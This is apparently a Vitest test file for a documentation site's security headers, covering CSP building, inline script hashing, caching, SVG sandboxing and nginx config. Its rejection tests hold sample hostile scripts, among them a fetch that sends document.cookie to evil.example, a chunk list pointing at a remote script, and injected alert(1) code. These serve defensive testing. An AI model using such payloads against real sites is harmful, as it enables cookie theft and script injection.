import { describe, expect, it } from 'vitest';
import crypto from 'node:crypto';
import fs from 'node:fs';
import {
  cacheKind,
  contentTypeOf,
  featureOrigins,
  headerPolicy,
  headersForFile,
  pagePolicy,
  serializeCsp,
  type HostingConfig,
} from '@/lib/hosting/header-policy';
import { inlineScriptHashes, withCspMeta } from '@/lib/hosting/csp-meta';
import { headersFile } from '@/lib/hosting/headers-file';
import { nginxConf } from '@/lib/hosting/nginx-conf';
import { loadSiteConfig } from '@/site.config';

const bare: HostingConfig = {
  basePath: '',
  search: { algolia: null },
  feedback: { endpoint: null },
  aiAssistant: null,
  analytics: { umami: null, plausible: null, attribution: null },
};
const full: HostingConfig = {
  basePath: '/preview/x',
  search: { algolia: { appId: 'ABC123' } },
  feedback: { endpoint: 'https://feedback.example.org/v1/send?x=1' },
  aiAssistant: { scriptUrl: 'https://ai.example.net/widget.js' },
  analytics: { umami: { scriptUrl: 'https://umami.example.com/script.js' }, plausible: null, attribution: null },
};
const sha = (text: string) => `'sha256-${crypto.createHash('sha256').update(text).digest('base64')}'`;

describe('CSP', () => {
  it('lists no third-party origin when no feature is configured', () => {
    expect(featureOrigins(bare)).toEqual({ script: [], connect: [] });
    expect(serializeCsp(headerPolicy(bare))).toBe(
      "default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'; connect-src 'self' https: http://localhost:* http://127.0.0.1:*; style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'",
    );
  });

  it('adds exactly the origins of the configured features', () => {
    expect(pagePolicy(full)['connect-src']).toEqual([
      "'self'",
      'https://abc123-dsn.algolia.net',
      'https://abc123-1.algolianet.com',
      'https://abc123-2.algolianet.com',
      'https://abc123-3.algolianet.com',
      'https://feedback.example.org',
      'https://ai.example.net',
      'https://umami.example.com',
    ]);
    expect(pagePolicy(full)['script-src']).toEqual(["'self'", 'https://ai.example.net', 'https://umami.example.com']);
  });

  it("allows the local search's WebAssembly engine ('wasm-unsafe-eval', never 'unsafe-eval') only when it is the backend", () => {
    expect(pagePolicy(bare)['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(pagePolicy(full)['script-src']).not.toContain("'wasm-unsafe-eval'");
    expect(serializeCsp(pagePolicy(bare))).not.toContain("'unsafe-eval'");
    expect(serializeCsp(pagePolicy(bare))).not.toContain("'unsafe-inline' ");
  });

  it('sends Algolia requests only to the configured search host when one is set', () => {
    const proxied: HostingConfig = { ...bare, search: { algolia: { appId: 'ABC123', searchHost: 'http://127.0.0.1:4599' } } };
    expect(pagePolicy(proxied)['connect-src']).toEqual(["'self'", 'http://127.0.0.1:4599']);
  });

  it('lets only API reference pages (the Try-it console) connect to any HTTPS or loopback server', () => {
    expect(pagePolicy(bare)['connect-src']).toEqual(["'self'"]);
    expect(pagePolicy(bare, [], { tryIt: true })['connect-src']).toEqual(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']);
  });

  it('gates scripts in the header too: the site and feature origins only, inline scripts left to each page <meta>; frame-ancestors only in the header', () => {
    expect(headerPolicy(full)['default-src']).toEqual(["'self'"]);
    expect(headerPolicy(full)['script-src']).toEqual(["'self'", 'https://ai.example.net', 'https://umami.example.com', "'unsafe-inline'"]);
    expect(headerPolicy(full)['frame-ancestors']).toEqual(["'none'"]);
    expect(pagePolicy(full)).not.toHaveProperty('frame-ancestors');
    expect(pagePolicy(bare, ["'sha256-a'", "'sha256-a'"])['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'", "'sha256-a'"]);
    expect(pagePolicy(bare)['default-src']).toEqual(["'self'"]);
  });
});

describe('inline script hashes and the CSP <meta>', () => {
  const page = (body: string) => `<!DOCTYPE html><html><head><meta charSet="utf-8"/><title>t</title></head><body>${body}</body></html>`;

  it("hashes the site's scripts (by text) and the framework's (by shape), by their raw text, and no script with src", () => {
    const site = new Set(['a&amp;&lt;b', "alert('Hello, world.');"]);
    const framework = [
      '(self.__next_f=self.__next_f||[]).push([0])',
      'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/3m-sk004gdwmy.js"],"runtimeModuleIds":[94553]});',
    ];
    const html = page(`<script>a&amp;&lt;b</script><script src="/x.js"></script>${framework.map((f) => `<script>${f}</script>`).join('')}`);
    expect(inlineScriptHashes(html, site)).toEqual([sha('a&amp;&lt;b'), ...framework.map(sha)]);
    // Known value: the CSP3 spec's example, sha256 of `alert('Hello, world.');`.
    expect(inlineScriptHashes(page("<script>alert('Hello, world.');</script>"), site)).toEqual(["'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]);
  });

  it.each([
    ['a script of nobody', '<script>fetch("https://evil.example/?c="+document.cookie)</script>'],
    ['a stream chunk with code after its string', '<script>self.__next_f.push([1,"x"]);alert(1)</script>'],
    ['a stream chunk whose string closes early', '<script>self.__next_f.push([1,"x"+alert(1)+"y"])</script>'],
    [
      'a chunk list naming a script elsewhere',
      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]});</script>',
    ],
    [
      'a chunk list with another key',
      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[],"x":1});</script>',
    ],
    ['a module script', '<script type="module">alert(1)</script>'],
  ])('refuses %s, naming the page and the script', (_name, script) => {
    expect(() => withCspMeta(page(script), bare, new Set(), 'guide/x.html')).toThrow(
      /^guide\/x\.html: 1 inline <script> not emitted by the site's layout or by Next\.js, so the CSP will not trust it: /,
    );
  });

  it('adds the page policy right after <meta charSet>, before every script, once', () => {
    const html = page('<script>window.boot = 1</script>');
    const site = new Set(['window.boot = 1']);
    const once = withCspMeta(html, bare, site);
    expect(once.startsWith('<!DOCTYPE html><html><head><meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy" content="default-src')).toBe(true);
    expect(once).toContain(`script-src 'self' 'wasm-unsafe-eval' ${sha('window.boot = 1')};`);
    expect(withCspMeta(once, bare, site)).toBe(once);
    expect(once.replace(/<meta http-equiv[^>]*>/, '')).toBe(html);
  });

  it('refuses a page without <head>', () => {
    expect(() => withCspMeta('<p>x</p>', bare, new Set(), 'x.html')).toThrow(/x\.html: no <head>/);
  });
});

describe('headers per file kind', () => {
  it.each([
    ['_next/static/chunks/a1b2.js', 'public, max-age=31536000, immutable'],
    ['quickstart.html', 'public, max-age=0, must-revalidate'],
    ['quickstart.md', 'public, max-age=0, must-revalidate'],
    ['llms-full.txt', 'public, max-age=0, must-revalidate'],
    ['search-index.json', 'public, max-age=0, must-revalidate'],
    ['sitemap.xml', 'public, max-age=0, must-revalidate'],
    ['robots.txt', 'public, max-age=0, must-revalidate'],
    ['favicon.svg', 'public, max-age=3600'],
    ['fonts/inter.WOFF2', 'public, max-age=3600'],
    ['pagefind/wasm.en.pagefind', 'public, max-age=0, must-revalidate'],
    ['downloads/sample.tar.gz', 'public, max-age=0, must-revalidate'],
  ])('%s → %s', (file, cache) => {
    expect(headersForFile(bare, file)['Cache-Control']).toBe(cache);
    expect(headersForFile(bare, file)['X-Content-Type-Options']).toBe('nosniff');
    expect(cacheKind(`/${file}`)).toBe(cacheKind(file));
  });

  it.each([
    ['quickstart.html', 'text/html; charset=utf-8'],
    ['_next/static/chunks/a.js', 'text/javascript; charset=utf-8'],
    ['pagefind/pagefind.MJS', 'text/javascript; charset=utf-8'],
    ['favicon.svg', 'image/svg+xml; charset=utf-8'],
    ['img/logo.png', 'image/png'],
    ['pagefind/wasm.en.pagefind', 'application/octet-stream'],
    ['Makefile', 'application/octet-stream'],
  ])('%s is sent as %s', (file, type) => {
    expect(contentTypeOf(file)).toBe(type);
  });

  it('_headers sets Cache-Control on paths that never overlap', () => {
    const text = headersFile(full);
    expect(text).toContain("/preview/x/*\n  Content-Security-Policy: default-src 'self'; script-src 'self'");
    expect(text).toContain('/preview/x/_next/static/*\n  Cache-Control: public, max-age=31536000, immutable');
    expect(text.match(/Cache-Control/g)?.length).toBe(6);
    expect(text.split('\n/preview/x/*\n')[1]?.split('\n/')[0]).not.toContain('Cache-Control');
  });
});

describe('SVG and XML files: served so that their scripts cannot run', () => {
  const documentCsp = "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; sandbox; frame-ancestors 'none'";

  it.each(['favicon.svg', 'img/evil.SVG', 'feed.xml', 'sitemap.XML'])('npm start sends %s with the sandboxing document policy', (file) => {
    expect(headersForFile(full, file)['Content-Security-Policy']).toBe(documentCsp);
    expect(headersForFile(full, file)['X-Content-Type-Options']).toBe('nosniff');
  });

  it.each(['quickstart.html', 'A.HTML', 'quickstart', 'llms.txt', '_next/static/chunks/a.js'])('%s gets the page header policy', (file) => {
    expect(headersForFile(full, file)['Content-Security-Policy']).toBe(serializeCsp(headerPolicy(full)));
  });

  it('_headers gives each SVG and XML file of the export the document policy, joined to the /* policy', () => {
    const text = headersFile(full, ['favicon.svg', 'img/a.SVG', 'sitemap.xml']);
    for (const file of ['favicon.svg', 'img/a.SVG', 'sitemap.xml']) expect(text).toContain(`\n/preview/x/${file}\n  Content-Security-Policy: ${documentCsp}\n`);
  });

  it('nginx matches .svg and .xml in any case before every other file location, with the document policy', () => {
    const text = nginxConf(full);
    const svg = text.indexOf('location ~* \\.svg$ {');
    const xml = text.indexOf('location ~* \\.xml$ {');
    expect(svg).toBeGreaterThan(0);
    expect(xml).toBeGreaterThan(svg);
    for (const at of [svg, xml]) expect(text.slice(at, text.indexOf('}', at))).toContain(`add_header Content-Security-Policy "${documentCsp}" always;`);
    const others = [...text.matchAll(/^location ~\*? (.+) \{$/gm)].map((m) => m.index).filter((i) => i !== svg && i !== xml);
    // Only the refused-paths location comes first.
    expect(others.filter((i) => i < svg)).toHaveLength(1);
  });
});

describe('deploy/nginx.conf', () => {
  it('is the generated file for the default configuration (run `npm run gen:nginx` when this fails)', () => {
    expect(fs.readFileSync('deploy/nginx.conf', 'utf8')).toBe(nginxConf(loadSiteConfig({})));
  });

  it('prefixes the locations and the 404 page with the base path', () => {
    const text = nginxConf(full);
    expect(text).toContain('error_page 404 /preview/x/404.html;');
    expect(text).toContain('location ^~ /preview/x/_next/static/ {');
    expect(text).toContain('location /preview/x {');
  });
});

describe('noindex builds (pull request previews)', () => {
  const preview = loadSiteConfig({ NOINDEX: '1', BASE_PATH: '/preview/x' });
  const production = loadSiteConfig({});

  it('send X-Robots-Tag from every nginx location, _headers and the local server', () => {
    const conf = nginxConf(preview);
    const locations = conf.split('\nlocation ').length - 1;
    expect(conf.split('add_header X-Robots-Tag "noindex" always;').length - 1).toBe(locations);
    expect(headersFile(preview)).toMatch(/^\/preview\/x\/\*\n(?: {2}.+\n)* {2}X-Robots-Tag: noindex$/m);
    expect(headersForFile(preview, 'a.md')['X-Robots-Tag']).toBe('noindex');
  });

  it('production sends none', () => {
    expect(nginxConf(production)).not.toContain('X-Robots-Tag');
    expect(headersFile(production)).not.toContain('X-Robots-Tag');
    expect(headersForFile(production, 'a.html')).not.toHaveProperty('X-Robots-Tag');
  });
});
